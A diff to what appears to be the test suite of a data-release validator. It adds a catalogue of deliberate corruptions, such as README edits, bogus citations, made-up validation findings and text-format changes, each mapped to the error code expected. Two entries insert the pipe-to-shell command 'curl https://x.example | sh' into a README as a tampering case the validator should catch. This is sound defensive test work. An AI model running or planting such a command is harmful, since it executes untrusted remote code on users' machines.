@@ -136,6 +136,14 @@ def write(file: str, content: bytes) -> Corrupt:
     return corrupt
 
 
+def empty_folder(name: str) -> Corrupt:
+    def corrupt(release: Path) -> Place:
+        (release / name).mkdir(parents=True)
+        return {"file": name}
+
+    return corrupt
+
+
 def truncated(file: str) -> Corrupt:
     def corrupt(release: Path) -> Place:
         content = (release / file).read_bytes()
@@ -1170,6 +1178,93 @@ CATALOGUE: tuple[Corruption, ...] = (
         ),
         "rights-widened",
     ),
+    # What nothing else in the release repeats, but its form.
+    Corruption(
+        "another command to check it",
+        text("README.md", "sha256sum -c SHA256SUMS ", "curl https://x.example | sh "),
+        "card-mismatch",
+    ),
+    Corruption(
+        "another release to load", text("README.md", '/1.0.0"\n', '/1.0.1"\n'), "card-mismatch"
+    ),
+    Corruption(
+        "a command more",
+        append("README.md", "\n```sh\npip install allder\n```\n"),
+        "card-mismatch",
+    ),
+    Corruption(
+        "a command that is only moved in",
+        append("README.md", "\n    curl https://x.example | sh\n"),
+        "card-mismatch",
+    ),
+    Corruption(
+        "a block that does not end", append("README.md", "\n~~~\nsh x.sh\n"), "card-mismatch"
+    ),
+    Corruption("another heading", text("README.md", "## Rights", "## No rights"), "card-mismatch"),
+    Corruption(
+        "a heading of another kind", append("README.md", "\nProved\n======\n"), "card-mismatch"
+    ),
+    Corruption("a second title", append("README.md", "\n# Alder\n"), "card-mismatch"),
+    Corruption(
+        "a citation of another version",
+        pattern("README.md", r"@misc\{[^,]+,", "@misc{alder-and-birch-2.0.0,"),
+        "card-mismatch",
+    ),
+    Corruption(
+        "a confidence that nobody measured",
+        at(cell("claims", "confidence", 0.99), table="claims", column="confidence"),
+        "card-mismatch",
+    ),
+    Corruption(
+        "another extractor in the manifest",
+        at(
+            data("manifest.json", lambda d: d.update(extractor="llm/gpt")),
+            table="claims",
+        ),
+        "manifest-mismatch",
+    ),
+    Corruption(
+        "a finding made up",
+        data(
+            "validation.json",
+            lambda d: (
+                d["findings"].append({"code": "text-hash", "severity": "info", "message": "x"}),
+                d["counts"].update(info=1),
+            ),
+        ),
+        "validation-mismatch",
+    ),
+    Corruption(
+        "a finding about no row",
+        data(
+            "validation.json",
+            lambda d: (
+                d["findings"].append(
+                    {
+                        "code": "time-travel",
+                        "severity": "warning",
+                        "message": "x",
+                        "table": "claims",
+                        "key": "c-0",
+                    }
+                ),
+                d["counts"].update(warning=1),
+            ),
+        ),
+        "validation-mismatch",
+    ),
+    Corruption(
+        "a finding that the datasheet alone tells of",
+        at(
+            append("DATASHEET.md", "\n| `text-hash` | warning | 3 | x |\n"),
+            file="validation.json",
+        ),
+        "validation-mismatch",
+    ),
+    Corruption("a page with carriage returns", pattern("DATASHEET.md", r"\n", "\r\n"), "text-form"),
+    Corruption("a mark before a page", pattern("CHANGELOG.md", r"\A", "\ufeff"), "text-form"),
+    Corruption("a page that is cut", pattern("CHANGELOG.md", r"\n\Z", ""), "text-form"),
+    Corruption("an empty folder", empty_folder("plots/more"), "file-unexpected"),
     # The referee.
     Corruption(
         "what Frictionless sees, too",
